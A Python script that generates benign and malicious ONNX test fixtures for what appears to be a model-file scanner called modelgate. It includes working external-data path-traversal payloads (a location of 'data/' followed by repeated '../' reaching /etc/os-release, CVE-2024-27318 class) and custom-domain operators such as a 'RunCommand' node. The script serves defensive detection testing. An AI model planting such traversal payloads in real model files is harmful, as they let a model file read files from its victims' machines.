#!/usr/bin/python3
"""Generate modelgate's ONNX fixtures with Debian's python3-onnx (and python3-torch for a real export).

Run from the repository root:

    /usr/bin/python3 test/gen_onnx_fixtures.py

Writes test/fixtures/benign/onnx/, test/fixtures/malicious/onnx/ and test/fixtures/manifest-onnx.json.

Benign models are checked with onnx.checker and loaded with onnx.load (external data included) in a
subprocess. Malicious external-data fixtures are proven live: onnx.load runs in a throw-away
subprocess and the proof touches the marker when a tensor's bytes equal /etc/os-release, i.e. the
loader pulled a file from outside the model directory. The traversal starts with "data/", a real
sub-directory next to the fixtures (committed with a README), because onnx's _sanitize_path strips
leading "/" and "." characters only (CVE-2024-27318 class). Custom-domain operators need ONNX Runtime
and a native custom-op library, neither available here: those fixtures are "proven": false.
"""
import json
import os
import subprocess
import sys
import tempfile

import numpy as np
import onnx
import onnx.helper as h
from onnx import TensorProto, numpy_helper

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'fixtures')
BENIGN = os.path.join(ROOT, 'benign', 'onnx')
MALICIOUS = os.path.join(ROOT, 'malicious', 'onnx')
TRAVERSAL = 'data/' + '../' * 24 + 'etc/os-release'
MANIFEST = []

LOAD_ALL = (
    "import onnx, os\n"
    "from onnx.external_data_helper import _get_all_tensors\n"
    "m = onnx.load(FILE)\n"
    "secret = open('/etc/os-release', 'rb').read()\n"
    "# proof only: the marker records that onnx.load pulled a file from outside the model dir\n"
    "if any(t.raw_data == secret for t in _get_all_tensors(m)):\n"
    "    open(os.environ['MODELGATE_MARKER'], 'a').close()\n"
)

BENIGN_LOAD = (
    "import onnx\n"
    "m = onnx.load(FILE)\n"
    "onnx.checker.check_model(m)\n"
)


def run(path, code):
    """Run code with FILE=path in a fresh interpreter; return (marker created, returncode, stderr tail)."""
    with tempfile.TemporaryDirectory(prefix='mg-proof-') as td:
        marker = os.path.join(td, 'marker')
        env = dict(os.environ, MODELGATE_MARKER=marker)
        env.pop('PYTHONPATH', None)
        r = subprocess.run([sys.executable, '-c', 'FILE = %r\n' % os.path.abspath(path) + code], cwd=td,
                           env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300)
        return os.path.exists(marker), r.returncode, r.stderr.strip().splitlines()[-1:]


def add(rel, label, technique, loader, proven, catalogue='', notes=None):
    e = {'file': rel, 'label': label, 'format': 'onnx', 'technique': technique, 'catalogue': catalogue,
         'loader': loader, 'proven': proven}
    if notes:
        e['notes'] = notes
    MANIFEST.append(e)


def model(graph, opsets=(('', 13),), functions=None, ir=8):
    m = h.make_model(graph, producer_name='modelgate-fixture',
                     opset_imports=[h.make_opsetid(d, v) for d, v in opsets], functions=functions or [])
    m.ir_version = ir
    return m


def benign(name, m, technique, check=True, external=None):
    path = os.path.join(BENIGN, name)
    if external:
        onnx.save_model(m, path, save_as_external_data=True, all_tensors_to_one_file=True,
                        location=external, size_threshold=0)
    else:
        onnx.save_model(m, path)
    if check:
        _, rc, err = run(path, BENIGN_LOAD)
        if rc != 0:
            raise SystemExit('benign %s does not load: %s' % (name, err))
    add('benign/onnx/' + name, 'benign', technique, 'onnx.load + onnx.checker.check_model' if check else 'onnx.load',
        bool(check))


def malicious(name, m, technique, prove, notes=None):
    path = os.path.join(MALICIOUS, name)
    onnx.save_model(m, path)
    proven = False
    if prove:
        hit, rc, err = run(path, LOAD_ALL)
        if not hit:
            raise SystemExit('malicious %s not proven: rc=%s %s' % (name, rc, err))
        proven = True
    add('malicious/onnx/' + name, 'malicious', technique, 'onnx.load', proven, '3.3.30', notes)


def weights(name, shape, seed):
    rng = np.random.RandomState(seed)
    return numpy_helper.from_array(rng.rand(*shape).astype(np.float32), name)


def external(name, location, dtype=TensorProto.UINT8, dims=(4,)):
    t = TensorProto()
    t.name, t.data_type = name, dtype
    t.dims.extend(dims)
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = 'location', location
    return t


def vi(name, elem=TensorProto.FLOAT, shape=None):
    return h.make_tensor_value_info(name, elem, shape)


# ---- benign -------------------------------------------------------------------------------------

def gen_benign():
    # MLP whose weights live in a data file next to the model (onnx's own external-data layout).
    g = h.make_graph([h.make_node('MatMul', ['X', 'W1'], ['H']), h.make_node('Add', ['H', 'B1'], ['Z']),
                      h.make_node('Relu', ['Z'], ['Y'])], 'mlp', [vi('X', shape=[1, 8])], [vi('Y', shape=[1, 16])],
                     initializer=[weights('W1', (8, 16), 1), weights('B1', (16,), 2)])
    benign('mlp_external_data.onnx', model(g), 'MLP with all initializers in external data file '
           '"mlp_external_data.onnx.data" next to the model (save_as_external_data)',
           external='mlp_external_data.onnx.data')

    # Standard ops from several domains, including the ai.onnx.ml classic-ML operators.
    coef = list(np.linspace(-1, 1, 12).astype(float))
    nodes = [
        h.make_node('Scaler', ['X'], ['S'], domain='ai.onnx.ml', offset=[0.5] * 4, scale=[2.0] * 4),
        h.make_node('LinearClassifier', ['S'], ['label', 'scores'], domain='ai.onnx.ml', coefficients=coef,
                    intercepts=[0.1, 0.2, 0.3], classlabels_ints=[0, 1, 2], post_transform='SOFTMAX'),
        h.make_node('Softmax', ['scores'], ['P'], axis=1),
    ]
    g = h.make_graph(nodes, 'ml', [vi('X', shape=[1, 4])],
                     [vi('label', TensorProto.INT64, [1]), vi('P', shape=[1, 3])])
    benign('ml_domain_classifier.onnx', model(g, opsets=(('', 13), ('ai.onnx.ml', 3))),
           'ai.onnx.ml Scaler + LinearClassifier and a standard Softmax (opsets "" 13, ai.onnx.ml 3)')

    # If and Loop with their own initializers inside the subgraphs, and a Constant attribute tensor.
    then_g = h.make_graph([h.make_node('Add', ['X', 'T'], ['then_out'])], 'then', [], [vi('then_out', shape=[4])],
                          initializer=[weights('T', (4,), 3)])
    else_g = h.make_graph([h.make_node('Sub', ['X', 'E'], ['else_out'])], 'else', [], [vi('else_out', shape=[4])],
                          initializer=[weights('E', (4,), 4)])
    body = h.make_graph([h.make_node('Identity', ['cond_in'], ['cond_out']),
                         h.make_node('Mul', ['acc_in', 'K'], ['acc_out'])], 'body',
                        [vi('i', TensorProto.INT64, []), vi('cond_in', TensorProto.BOOL, []), vi('acc_in', shape=[4])],
                        [vi('cond_out', TensorProto.BOOL, []), vi('acc_out', shape=[4])],
                        initializer=[weights('K', (4,), 5)])
    nodes = [
        h.make_node('Constant', [], ['zero'], value=numpy_helper.from_array(np.zeros(4, np.float32), 'zero_value')),
        h.make_node('ReduceSum', ['X'], ['s'], keepdims=0),
        h.make_node('Greater', ['s', 'zero_scalar'], ['c']),
        h.make_node('If', ['c'], ['branch'], then_branch=then_g, else_branch=else_g),
        h.make_node('Loop', ['trip', 'cond'], ['Y'], body=body),
        h.make_node('Add', ['branch', 'zero'], ['Y2']),
    ]
    g = h.make_graph(nodes, 'control_flow', [vi('X', shape=[4]), vi('cond', TensorProto.BOOL, [])],
                     [vi('Y', shape=[4]), vi('Y2', shape=[4])],
                     initializer=[numpy_helper.from_array(np.array(0.0, np.float32), 'zero_scalar'),
                                  numpy_helper.from_array(np.array(3, np.int64), 'trip')])
    # Loop carries acc through; give it an initial value via a graph input named like the body input.
    g.node[4].input.append('X')
    benign('if_loop_subgraphs.onnx', model(g), 'If (then/else) and Loop subgraphs with initializers inside '
           'the subgraphs plus a Constant attribute tensor')

    # A model-local function in its own domain: nodes calling it are not custom operators.
    fn = h.make_function('local.fn', 'Swish', ['x'], ['y'],
                         [h.make_node('Sigmoid', ['x'], ['s']), h.make_node('Mul', ['x', 's'], ['y'])],
                         [h.make_opsetid('', 13)])
    g = h.make_graph([h.make_node('Swish', ['X'], ['Y'], domain='local.fn')], 'with_function',
                     [vi('X', shape=[1, 4])], [vi('Y', shape=[1, 4])])
    benign('local_function.onnx', model(g, opsets=(('', 13), ('local.fn', 1)), functions=[fn]),
           'node calling a model-local FunctionProto (Swish in domain local.fn); expected: only the '
           'low-severity local-function note')

    # A real export by PyTorch's ONNX exporter.
    import torch
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU(),
                              torch.nn.AdaptiveAvgPool2d(1), torch.nn.Flatten(), torch.nn.Linear(4, 2)).eval()
    path = os.path.join(BENIGN, 'torch_export_convnet.onnx')
    torch.onnx.export(net, torch.zeros(1, 3, 8, 8), path, opset_version=13, do_constant_folding=True,
                      input_names=['image'], output_names=['logits'])
    _, rc, err = run(path, BENIGN_LOAD)
    if rc != 0:
        raise SystemExit('torch export does not load: %s' % err)
    add('benign/onnx/torch_export_convnet.onnx', 'benign', 'torch.onnx.export of a small conv net (Conv, BN, '
        'ReLU, GlobalAveragePool, Gemm)', 'onnx.load + onnx.checker.check_model', True)


# ---- malicious ----------------------------------------------------------------------------------

def gen_malicious():
    os.makedirs(os.path.join(MALICIOUS, 'data'), exist_ok=True)
    with open(os.path.join(MALICIOUS, 'data', 'README.txt'), 'w') as f:
        f.write('Exists so that the external-data traversals in ../*.onnx resolve (see test/gen_onnx_fixtures.py).\n')

    # Traversal in an initializer of an If branch: onnx.load follows subgraph initializers too.
    then_g = h.make_graph([h.make_node('Identity', ['leak'], ['out'])], 'then', [], [vi('out', TensorProto.UINT8, [4])],
                          initializer=[external('leak', TRAVERSAL)])
    else_g = h.make_graph([h.make_node('Identity', ['X'], ['out2'])], 'else', [], [vi('out2', TensorProto.UINT8, [4])])
    g = h.make_graph([h.make_node('If', ['C'], ['Y'], then_branch=then_g, else_branch=else_g)], 'g',
                     [vi('C', TensorProto.BOOL, []), vi('X', TensorProto.UINT8, [4])], [vi('Y', TensorProto.UINT8, [4])])
    malicious('subgraph_initializer_traversal.onnx', model(g),
              'external_data location "data/../../(x24)etc/os-release" on an initializer inside an If then_branch '
              '(onnx.load walks subgraph initializers; _sanitize_path only strips leading "/" and ".")', True,
              notes='needs the committed directory malicious/onnx/data next to the model')

    # Traversal in a Constant node's value attribute.
    g = h.make_graph([h.make_node('Constant', [], ['Y'], value=external('c', TRAVERSAL))], 'g', [],
                     [vi('Y', TensorProto.UINT8, [4])])
    malicious('constant_attribute_traversal.onnx', model(g),
              'external_data location with "data/../.." on the value tensor of a Constant node attribute', True,
              notes='needs the committed directory malicious/onnx/data next to the model')

    # Absolute location on a sparse initializer (onnx 1.12 does not load sparse external data; newer
    # loaders and runtimes do).
    sp = onnx.SparseTensorProto()
    sp.values.CopyFrom(external('sv', '/etc/os-release'))
    sp.indices.CopyFrom(numpy_helper.from_array(np.array([0, 1, 2, 3], np.int64), 'si'))
    sp.dims.extend([8])
    g = h.make_graph([h.make_node('Identity', ['sv'], ['Y'])], 'g', [], [vi('Y', TensorProto.UINT8, [8])])
    g.sparse_initializer.append(sp)
    malicious('sparse_initializer_absolute.onnx', model(g),
              'absolute external_data location on the values of a sparse initializer', False,
              notes='UNPROVEN: Debian onnx 1.12 neither loads sparse external data nor accepts absolute paths '
                    '(strips the leading "/"); unpatched onnx < 1.13 and other loaders do')

    # Custom operator domain: only runs after registering a native custom-op library.
    g = h.make_graph([h.make_node('Relu', ['X'], ['R']), h.make_node('RunCommand', ['R'], ['Y'], domain='evil.ops',
                                                                         cmd='touch modelgate-marker')],
                     'g', [vi('X', shape=[1, 4])], [vi('Y', shape=[1, 4])])
    malicious('custom_domain_operator.onnx', model(g, opsets=(('', 13), ('evil.ops', 1))),
              'node RunCommand in custom domain "evil.ops": ONNX Runtime runs it only after '
              'register_custom_ops_library() loads a native library shipped with the model', False,
              notes='UNPROVEN: needs onnxruntime and a compiled custom-op library, neither installable here')

    # Custom-domain operator hidden inside a model-local function.
    fn = h.make_function('pkg.helpers', 'Prep', ['x'], ['y'],
                         [h.make_node('Loader', ['x'], ['y'], domain='vendor.native')],
                         [h.make_opsetid('', 13), h.make_opsetid('vendor.native', 1)])
    g = h.make_graph([h.make_node('Prep', ['X'], ['Y'], domain='pkg.helpers')], 'g',
                     [vi('X', shape=[1, 4])], [vi('Y', shape=[1, 4])])
    malicious('custom_op_inside_function.onnx',
              model(g, opsets=(('', 13), ('pkg.helpers', 1), ('vendor.native', 1)), functions=[fn]),
              'model-local function whose body calls operator Loader from custom domain "vendor.native"', False,
              notes='UNPROVEN: needs onnxruntime and a compiled custom-op library, neither installable here')


def main():
    os.makedirs(BENIGN, exist_ok=True)
    os.makedirs(MALICIOUS, exist_ok=True)
    gen_benign()
    gen_malicious()
    MANIFEST.sort(key=lambda e: e['file'])
    with open(os.path.join(ROOT, 'manifest-onnx.json'), 'w') as f:
        json.dump(MANIFEST, f, indent=1)
        f.write('\n')
    print('wrote %d ONNX fixtures' % len(MANIFEST))


if __name__ == '__main__':
    main()
